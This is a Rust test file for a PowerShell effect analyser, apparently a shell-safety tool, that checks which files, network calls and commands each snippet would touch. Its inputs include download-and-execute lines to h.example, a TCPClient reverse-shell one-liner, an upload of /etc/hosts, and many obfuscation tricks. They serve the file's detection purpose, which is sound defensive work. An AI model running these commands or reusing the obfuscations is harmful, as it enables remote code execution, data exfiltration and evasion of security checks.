//! PowerShell.

use super::{check_in, effects_in};
use aegish_code_parsers::language::Language::PowerShell;
use aegish_test_support::clock::cpu_time;
use std::time::Duration;

fn check(table: &[(&str, &[&str])]) {
    check_in(PowerShell, table);
}

#[test]
fn what_the_old_reader_knew() {
    check(&[
        ("ls -la", &["argv ls|-la"]),
        (
            "IEX (New-Object Net.WebClient).DownloadString('http://h.example/x')",
            &["fetch http://h.example/x", "received"],
        ),
        ("iex (iwr http://h.example/x)", &["fetch http://h.example/x", "received"]),
        ("iwr http://h.example/x | iex", &["fetch http://h.example/x", "received"]),
        (
            "Invoke-WebRequest -Uri http://h.example/x -OutFile /tmp/x",
            &["fetch http://h.example/x -> /tmp/x"],
        ),
        ("\"DATA\" | Out-File /tmp/x", &["write /tmp/x <- DATA"]),
        ("Get-Content /etc/hosts", &["read /etc/hosts"]),
        ("Remove-Item -Recurse -Force /srv/x", &["tree /srv/x"]),
        ("Start-Process sh -ArgumentList '-i'", &["argv sh|-i"]),
        ("& '/bin/sh' -i", &["argv /bin/sh|-i"]),
        // Known code is followed, not only named.
        ("$c = 'i' + 'd'; iex $c", &["argv id"]),
        ("[System.IO.File]::ReadAllText('/etc/hosts')", &["read /etc/hosts"]),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
            &["argv id"],
        ),
        (
            "$c = New-Object System.Net.Sockets.TCPClient('h.example',99);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String )}",
            &["connect h.example 99", "received"],
        ),
        // What is printed is known.
        ("Write-Host 'iex'", &["print iex\n"]),
        ("# iex x", &[]),
        ("$PSVersionTable", &[]),
    ]);
}

#[test]
fn texts_are_computed() {
    check(&[
        ("& ([char]105 + [char]100)", &["argv id"]),
        ("& (-join ([char[]](105,100)))", &["argv id"]),
        ("& ('di'[-1..-2] -join '')", &["argv id"]),
        ("& ('{1}{0}' -f 'd','i')", &["argv id"]),
        ("& ('i-d'.Replace('-',''))", &["argv id"]),
        ("& ('xidx'.Substring(1,2))", &["argv id"]),
        ("& ('id-x'.Split('-')[0])", &["argv id"]),
        ("$a = 'di'.ToCharArray(); [array]::Reverse($a); & (-join $a)", &["argv id"]),
        ("& 'ID'.ToLower()", &["argv id"]),
        ("& ('i_d' -replace '_','')", &["argv id"]),
        ("& (('i,d' -split ',') -join '')", &["argv id"]),
        ("$x = 'i'; & \"${x}d\"", &["argv id"]),
        ("$x = @('i','d'); & \"$($x[0])$($x[1])\"", &["argv id"]),
        ("$h = @{A='id'}; & $h.a; & $h['A']", &["argv id"]),
        ("& ([string]::Join('', @('i','d')))", &["argv id"]),
        (
            "& ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBkAA==')))",
            &["argv id"],
        ),
        ("$s = ''; 105,100 | % { $s += [char]$_ }; & $s", &["argv id"]),
        ("& (-join (105,100 | % { [char]$_ }))", &["argv id"]),
        ("& (-join ('6a','65' | % { [char]([Convert]::ToInt32($_,16) - 1) }))", &["argv id"]),
        (
            "$b = New-Object Text.StringBuilder; [void]$b.Append('i'); [void]$b.Append('d'); & $b.ToString()",
            &["argv id"],
        ),
        ("& (('i' * 1) + 'd')", &["argv id"]),
        ("if ('xid' -match 'x(.*)') { & $Matches[1] }", &["argv id"]),
        ("& ($ShellId[1] + 'd')", &["argv id"]),
        ("& ([regex]::Replace('i-d','-',''))", &["argv id"]),
    ]);
}

#[test]
fn commands_are_found_in_every_spelling() {
    check(&[
        ("i`e`x 'id'", &["argv id"]),
        ("& 'iex' 'id'", &["argv id"]),
        ("& ('ie' + 'x') 'id'", &["argv id"]),
        (".('ie'+'x') 'id'", &["argv id"]),
        ("INVOKE-expression -Command 'id'", &["argv id"]),
        ("Microsoft.PowerShell.Utility\\Invoke-Expression 'id'", &["argv id"]),
        ("i''ex 'id'", &["argv id"]),
        ("iex <# comment #> 'id' # end", &["argv id"]),
        ("iex `\n  'id'", &["argv id"]),
        ("iex @'\nid\n'@", &["argv id"]),
        ("iex @\"\nid $(1+1)\n\"@", &["argv id|2"]),
        ("iex –Command ‘id’", &["argv id"]),
        ("& { id }", &["argv id"]),
        (". { id }", &["argv id"]),
        ("{ id }.Invoke()", &["argv id"]),
        ("$b = { param($c) & $c }; & $b 'id'", &["argv id"]),
        ("[scriptblock]::Create('id').Invoke()", &["argv id"]),
        ("& ([scriptblock]::Create('id'))", &["argv id"]),
        ("& (gcm iex) 'id'", &["argv id"]),
        ("sal q iex; q 'id'", &["argv id"]),
        ("$ExecutionContext.InvokeCommand.InvokeScript('id')", &["argv id"]),
        ("[PowerShell]::Create().AddScript('id').Invoke()", &["argv id"]),
        ("Start-Job -ScriptBlock { id }", &["argv id"]),
        ("'id' | % { & $_ }", &["argv id"]),
        ("@('id').ForEach({ & $_ })", &["argv id"]),
        ("$a = @{ScriptBlock={ id }}; icm @a", &["argv id"]),
        ("$w = '-c','id'; sh @w", &["argv sh|-c|id"]),
        ("[Diagnostics.Process]::Start('sh', '-c id')", &["argv sh|-c|id"]),
        (
            "$p = New-Object Diagnostics.ProcessStartInfo; $p.FileName = 'id'; [Diagnostics.Process]::Start($p)",
            &["argv id"],
        ),
        (
            "$p = New-Object Diagnostics.Process; $p.StartInfo.FileName = 'id'; $p.Start()",
            &["argv id"],
        ),
        (
            "$m = 'DownloadString'; iex (New-Object Net.WebClient).$m('http://h.example')",
            &["fetch http://h.example", "received"],
        ),
        (
            "(New-Object Net.WebClient).('Down'+'loadFile')('http://h.example','/tmp/x')",
            &["fetch http://h.example -> /tmp/x"],
        ),
        ("[IO.File]::('Read'+'AllText')('/etc/hosts') | Out-Null", &["read /etc/hosts"]),
        ("([type]'IO.File')::Delete('/srv/x')", &["delete /srv/x"]),
        ("('IO.File' -as [type])::Delete('/srv/x')", &["delete /srv/x"]),
        ("cmd --% /c dir \"a b\"", &["argv cmd|/c|dir|a b"]),
        ("git log --pretty=format:%h -n 5", &["argv git|log|--pretty=format:%h|-n|5"]),
        ("'id' | bash", &["argv bash", "shell id"]),
        ("$x = 'a b'; tool $x/c --y=$x", &["argv tool|a b/c|--y=a b"]),
        ("./run.ps1 -x 1", &["script powershell ./run.ps1"]),
        (". ./vars.ps1; iex $fromThere", &["script powershell ./vars.ps1", "hidden"]),
    ]);
}

#[test]
fn what_is_not_known_is_open() {
    check(&[
        ("iex $args[1]", &["hidden"]),
        ("iex (Read-Host)", &["hidden"]),
        ("1 | % (ConvertFrom-Json x).block", &["hidden"]),
        ("[Environment]::CurrentDirectory = '/srv'; ./tool", &["chdir /srv", "argv ./tool"]),
        ("& $args[5] x", &["hidden"]),
        ("& (Get-Random -InputObject (Get-Content /srv/c))", &["read /srv/c", "hidden"]),
        ("& (gcm i*x) 'id'", &["hidden"]),
        ("Add-Type -TypeDefinition 'class A {}'", &["hidden"]),
        ("[Reflection.Assembly]::Load($bytes)", &["hidden"]),
        ("[Math].GetMethod('Abs').Invoke($null, 1)", &["hidden"]),
        ("rm $args[1]", &["argv rm|‹argument›"]),
        ("rm $args[0]", &["argv rm|first-arg"]),
        ("& \"$PSScriptRoot/tool\" x", &["argv ‹path of the script›/tool|x"]),
        ("function f { param($c) iex $c }", &[]),
    ]);
}

#[test]
fn branches_loops_and_functions() {
    check(&[
        ("if ($env:X) { $t = '/' } else { $t = 'b' }; rm $t", &["argv rm|{/|b}"]),
        ("$t = 'a'; if ($false) { $t = '/' }; rm $t", &["argv rm|a"]),
        (
            "if ($env:X) { id } elseif ($env:Y) { who } else { ps }",
            &["argv id", "argv who", "argv ps"],
        ),
        ("$x = if ($env:X) { 'id' } else { 'who' }; & $x", &["argv id", "argv who"]),
        ("foreach ($c in 'id','who') { & $c }", &["argv id", "argv who"]),
        ("for ($i = 0; $i -lt 2; $i++) { tool $i }", &["argv tool|0", "argv tool|1"]),
        ("$i = 0; while ($i -lt 2) { tool $i; $i++ }", &["argv tool|0", "argv tool|1"]),
        ("$i = 0; do { tool $i; $i++ } while ($i -lt 2)", &["argv tool|0", "argv tool|1"]),
        ("$i = 0; do { tool $i; $i++ } until ($i -ge 2)", &["argv tool|0", "argv tool|1"]),
        (
            "foreach ($i in 1..3) { if ($i -eq 2) { continue }; tool $i }",
            &["argv tool|1", "argv tool|3"],
        ),
        (
            ":o foreach ($i in 1..3) { foreach ($j in 1..3) { if ($j -eq 2) { break o }; tool $i $j } }",
            &["argv tool|1|1"],
        ),
        ("switch ('b') { 'a' { id } 'B' { who } default { ps } }", &["argv who"]),
        ("switch ($env:X) { 'a' { id } default { ps } }", &["argv id", "argv ps"]),
        ("switch -Regex ('abc') { '^a' { id; break } 'b' { who } }", &["argv id"]),
        ("function f($a, $b = 'who') { & $a; & $b }; f id", &["argv id", "argv who"]),
        (
            "function f { param([string]$a, [switch]$s) if ($s) { & $a } }; f -a id -s; f -a who",
            &["argv id"],
        ),
        ("function f { 'i'; 'd' }; & (-join (f))", &["argv id"]),
        ("function f { return 'id' }; & (f)", &["argv id"]),
        (
            "function f($n) { if ($n -gt 0) { tool $n; f ($n - 1) } }; f 2",
            &["argv tool|2", "argv tool|1"],
        ),
        ("function f { & $c }; function g { $c = 'id'; f }; g", &["argv id"]),
        ("$c = 'id'; function f { $c = 'ls' }; f; & $c", &["argv id"]),
        ("$c = 'ls'; function f { $script:c = 'id' }; f; & $c", &["argv id"]),
        ("filter f { & $_ }; 'id','who' | f", &["argv id", "argv who"]),
        (
            "function f { begin { a } process { & $_ } end { z } }; 'id' | f",
            &["argv a", "argv id", "argv z"],
        ),
        (
            "function f { param([Parameter(ValueFromPipeline)]$x) process { & $x } }; 'id' | f",
            &["argv id"],
        ),
        ("function f { tool @args }; f -a 1", &["argv tool|-a|1"]),
        ("try { throw 'id' } catch { & $_.Exception.Message }", &["argv id"]),
        ("try { Get-Item x } catch { id } finally { who }", &["argv id", "argv who"]),
        ("trap { id }; tool", &["argv tool", "argv id"]),
        ("$a, $b = 'x', 'id'; & $b", &["argv id"]),
        (
            "class A { [string]$c; A([string]$c) { $this.c = $c } [void] Run() { & $this.c } }; [A]::new('id').Run()",
            &["argv id"],
        ),
        ("class A { static [void] Run($c) { & $c } }; [A]::Run('id')", &["argv id"]),
        ("tool1 && tool2 || tool3", &["argv tool1", "argv tool2", "argv tool3"]),
        ("$x = $true ? 'id' : 'who'; & $x", &["argv id"]),
        ("$x = $null ?? 'id'; & $x", &["argv id"]),
        ("iex '$c = \"id\"'; & $c", &["argv id"]),
        ("$b = { $c }; $c = 'id'; & (& $b)", &["argv id"]),
        ("Set-Item function:g { id }; g", &["argv id"]),
        ("${function:g} = { id }; g", &["argv id"]),
    ]);
}

#[test]
fn files_network_and_environment() {
    check(&[
        ("cd /srv; Remove-Item x; ./tool", &["delete /srv/x", "chdir /srv", "argv ./tool"]),
        ("$env:LD_PRELOAD = '/srv/x.so'", &["setenv LD_PRELOAD=/srv/x.so"]),
        ("Remove-Item $env:TARGET", &["delete /srv/data.bin"]),
        ("Remove-Item \"$HOME/x\" -Recurse", &["tree /home/ann/x"]),
        ("'a' > /tmp/x; 'b' >> /tmp/x", &["write /tmp/x <- a", "append /tmp/x <- b"]),
        ("tool 2> /tmp/e", &["argv tool", "write /tmp/e <- ‹messages›"]),
        ("tool *> $null", &["argv tool"]),
        ("'a','b' | Set-Content /tmp/x", &["write /tmp/x <- a\nb"]),
        ("'x' | Out-File /tmp/x -Append", &["append /tmp/x <- x"]),
        ("Remove-Item -LiteralPath /srv/x", &["delete /srv/x"]),
        ("Remove-Item -Path:/srv/x -Recurse:$true", &["tree /srv/x"]),
        (
            "Get-ChildItem /srv -Filter *.log | % { Remove-Item $_.FullName }",
            &["list /srv", "delete /srv/*"],
        ),
        ("(Get-Item /srv/x).Delete()", &["delete /srv/x"]),
        (
            "Set-Content /tmp/a.sh 'id'; bash /tmp/a.sh",
            &["write /tmp/a.sh <- id", "argv bash|/tmp/a.sh"],
        ),
        (
            "Set-Content /tmp/c 'id'; iex (Get-Content /tmp/c)",
            &["write /tmp/c <- id", "read /tmp/c", "argv id"],
        ),
        (
            "Invoke-RestMethod -Uri http://h.example -Method POST -Body 'x'",
            &["send http://h.example"],
        ),
        (
            "(New-Object Net.WebClient).UploadString('http://h.example', 'x')",
            &["send http://h.example"],
        ),
        (
            "[Net.WebClient]::new().DownloadFile('http://h.example/x','/tmp/x'); & /tmp/x",
            &["fetch http://h.example/x -> /tmp/x", "argv /tmp/x"],
        ),
        (
            "$w = [IO.StreamWriter]::new('/tmp/x'); $w.WriteLine('DATA'); $w.Close()",
            &["write /tmp/x <- DATA"],
        ),
        ("Copy-Item -Path /etc/hosts -Destination /tmp/h -Force", &["copy /etc/hosts -> /tmp/h"]),
        ("New-Item -ItemType Directory -Path /tmp/d -Force | Out-Null", &["append /tmp/d <- "]),
    ]);
}

#[test]
fn harmless_programs_give_nothing() {
    check(&[
        (
            "Write-Host \"iex (iwr http://h.example)\" -ForegroundColor Red",
            &["print iex (iwr http://h.example)\n"],
        ),
        ("'hello'", &["print hello\n"]),
        ("1 + 1", &["print 2\n"]),
        ("$x = 5\n$x * 2", &["print 10\n"]),
        (
            "Get-Process | Where-Object { $_.CPU -gt 10 } | Sort-Object CPU -Descending | Select-Object -First 5",
            &[],
        ),
        ("Get-Process | ? CPU -gt 10 | ft -AutoSize", &[]),
        ("Get-Date -Format 'yyyy-MM-dd'", &[]),
        ("$PSVersionTable.PSVersion.ToString()", &[]),
        ("Get-ChildItem | Measure-Object -Property Length -Sum", &[]),
        ("Get-ChildItem -Recurse -Filter *.ps1 | ForEach-Object { $_.FullName }", &[]),
        ("[math]::Round(3.14159, 2)", &[]),
        ("[Environment]::OSVersion.Platform", &[]),
        ("$names = 'a','b','c'\nforeach ($n in $names) { Write-Output $n }", &["print a\nb\nc\n"]),
        ("1..3 | ForEach-Object { $_ * 2 }", &["print 2\n4\n6\n"]),
        (
            "$h = @{ Name = 'x'; Age = 3 }\n$h.Keys | Out-Null\n\"$($h.Name) is $($h.Age)\"",
            &["print x is 3\n"],
        ),
        ("function Add($a, $b) { return $a + $b }\nAdd 2 3", &["print 5\n"]),
        ("if (Test-Path ./x) { 'yes' } else { 'no' }", &[]),
        ("try { Get-Item x -ErrorAction Stop } catch { Write-Warning $_.Exception.Message }", &[]),
        ("$obj = [PSCustomObject]@{ A = 1; B = 'x' }\n$obj | Format-List", &[]),
        ("$obj | ConvertTo-Json -Depth 5 | Out-String | Write-Host", &[]),
        ("Get-Command git -ErrorAction SilentlyContinue | Out-Null", &[]),
        (
            "param(\n  [Parameter(Mandatory=$true)][string]$Name,\n  [int]$Count = 1\n)\nWrite-Verbose \"$Name\"",
            &[],
        ),
        (
            "[CmdletBinding()]\nparam([ValidateSet('a','b')][string]$Mode = 'a')\n$Mode | Out-Null",
            &[],
        ),
        ("$ErrorActionPreference = 'Stop'\nSet-StrictMode -Version Latest", &[]),
        ("$s = 'abc'\n$s.ToUpper().Substring(0, 1)", &["print A\n"]),
        (
            "$list = New-Object System.Collections.Generic.List[string]\n$list.Add('x')\n$list.Count",
            &["print 1\n"],
        ),
        (
            "$list = [System.Collections.ArrayList]@()\n[void]$list.Add('x')\n$list -join ','",
            &["print x\n"],
        ),
        ("switch ($PSVersionTable.PSEdition) { 'Core' { 'c' } 'Desktop' { 'd' } }", &[]),
        ("$i = 0\nwhile ($true) { $i++; if ($i -gt 5) { break } }\n$i", &["print 6\n"]),
        ("do { $x = Get-Random -Maximum 10 } until ($x -eq 3)", &[]),
        ("Get-Service | Where-Object Status -eq 'Running' | Select-Object Name, Status", &[]),
        (
            "\"a,b,c\".Split(',') | ForEach-Object { $_.Trim() } | Sort-Object -Unique | Out-Null",
            &[],
        ),
        ("'2024-01-02' -match '(\\d+)-(\\d+)' | Out-Null; $Matches[1]", &["print 2024\n"]),
        ("$json = '{\"a\":1}' | ConvertFrom-Json\n$json.a", &[]),
        ("$x = $null\nif ($null -eq $x) { 'none' }", &["print none\n"]),
        ("[int]$n = '42'\n\"n is {0:d4}\" -f $n", &["print n is 0042\n"]),
        ("$sb = { param($x) $x * 2 }\n& $sb 21", &["print 42\n"]),
        ("enum Color { Red; Green = 5 }\n[Color]::Red | Out-Null", &[]),
        (
            "class P { [string]$Name; [int] Len() { return $this.Name.Length } }\n$p = [P]::new()\n$p.Name = 'abc'\n$p.Len()",
            &["print 3\n"],
        ),
        (
            "<#\n.SYNOPSIS\n  iex\n#>\n#Requires -Version 5\nusing namespace System.IO\n'x'",
            &["print x\n"],
        ),
        (
            "Get-Content README.md | Select-String 'TODO' | ForEach-Object { $_.Line }",
            &["read README.md"],
        ),
        (
            "$t = [datetime]::Now.AddDays(-7)\nGet-ChildItem . | Where-Object { $_.LastWriteTime -lt $t } | Select-Object Name",
            &[],
        ),
        ("$a = @(1,2,3) + 4\n$a[-1]\n$a.Count", &["print 4\n4\n"]),
        ("Get-Module -ListAvailable | Where-Object { $_.Name -like 'Az*' }", &[]),
        ("$r = 1..10 | Where-Object { $_ % 2 -eq 0 }\n\"$r\"", &["print 2 4 6 8 10\n"]),
        (
            "Write-Progress -Activity 'x' -Status 'y' -PercentComplete 50\nStart-Sleep -Seconds 1",
            &[],
        ),
        ("$p = @{ Path = '/srv'; Filter = '*.txt' }\nGet-ChildItem @p | Out-Null", &["list /srv"]),
        ("Get-Process `\n  | Sort-Object CPU `\n  | Select-Object -First 3", &[]),
        ("$x = Get-Process |\n  Sort-Object CPU\n$x.Count", &[]),
    ]);
}

#[test]
fn text_that_is_no_powershell_is_not_taken_for_harmless() {
    check(&[
        ("id; )", &["argv id", "hidden"]),
        ("id\n'abc", &["argv id", "hidden"]),
        ("id\nif (", &["argv id", "hidden"]),
        ("id\n<# open", &["argv id", "hidden"]),
        ("\"$(\"", &["hidden"]),
        ("function { }", &["hidden"]),
    ]);
}

#[test]
fn deep_and_long_texts_are_bounded() {
    let deep = |open: &str, close: &str| open.repeat(10_000) + "1" + &close.repeat(10_000);
    let texts = [
        deep("(", ")"),
        deep("$(", ")"),
        deep("@(", ")"),
        deep("& { ", " }"),
        deep("@{a=", "}"),
        deep("if (1) { ", " }"),
        deep("[int]", ""),
        deep("!", ""),
        deep("$x[", "]"),
        deep("\"$(", ")\""),
    ];
    for text in texts {
        let start = cpu_time();
        let found = effects_in(PowerShell, &text);
        assert!(found.contains(&"hidden".to_owned()), "{}", &text[..20]);
        let took = cpu_time() - start;
        assert!(took < Duration::from_secs(2), "{}: {took:?}", &text[..20]);
    }
    let long = [
        "$x = 1 + 2\n".repeat(80_000),
        "'a' + ".repeat(100_000) + "'b'",
        format!("tool {}", "a ".repeat(300_000)),
        format!("$x = '{}'", "a".repeat(1_000_000)),
        "# c\n".repeat(200_000),
        "$x.a.b('c')[1] | Out-Null\n".repeat(20_000),
        "`".repeat(500_000),
        "<# ".repeat(300_000),
    ];
    for text in long {
        let start = cpu_time();
        effects_in(PowerShell, &text);
        let took = cpu_time() - start;
        assert!(took < Duration::from_secs(4), "{}: {took:?}", &text[..20]);
    }
}

#[test]
fn powershell_parameters_in_their_places() {
    check(&[
        ("icm h.example { id }", &["connect h.example ", "argv id"]),
        ("icm -cn h.example { id }", &["connect h.example ", "argv id"]),
        ("Remove-Item -LP /srv/x", &["delete /srv/x"]),
        ("Remove-Item -PSPath /srv/x -Recurse", &["tree /srv/x"]),
        ("New-Item -Type SymbolicLink -Path /srv/l -Target /etc", &["link /etc <- /srv/l"]),
        ("Get-Content /srv/x -Head 3 | Out-Null", &["read /srv/x"]),
        ("Trace-Command x { id }", &["argv id"]),
        ("Register-ObjectEvent $w Changed x { id }", &["argv id"]),
        ("Export-Csv -InputObject x /tmp/a.csv ';'", &["write /tmp/a.csv <- x"]),
        ("Start-Process sh -Verb RunAs", &["user Administrator", "argv sh"]),
        ("iwmi -Class Win32_Process -Name Create -ArgumentList 'id'", &["shell id"]),
        (
            "(New-Object Net.WebClient).UploadFile('http://h.example', 'POST', '/etc/hosts')",
            &["send http://h.example <- /etc/hosts"],
        ),
        ("[IO.File]::Open('/srv/x', 'Open') | Out-Null", &["read /srv/x", "write /srv/x <- "]),
    ]);
}

#[test]
fn powershell_harmless_commands_of_modules() {
    check(&[
        ("Stop-Transcript", &[]),
        ("gmo -ListAvailable | Out-Null", &[]),
        ("Get-CimInstance Win32_Process -Filter 'x = 1' | Out-Null", &[]),
        ("rmo x", &[]),
        ("Unblock-File x.ps1", &[]),
        ("Import-LocalizedData m", &[]),
        ("Compare-Object 1 2 -IncludeEqual | Out-Null", &[]),
        ("Write-Progress a b 3", &[]),
        ("'x' | Set-Clipboard", &[]),
    ]);
}
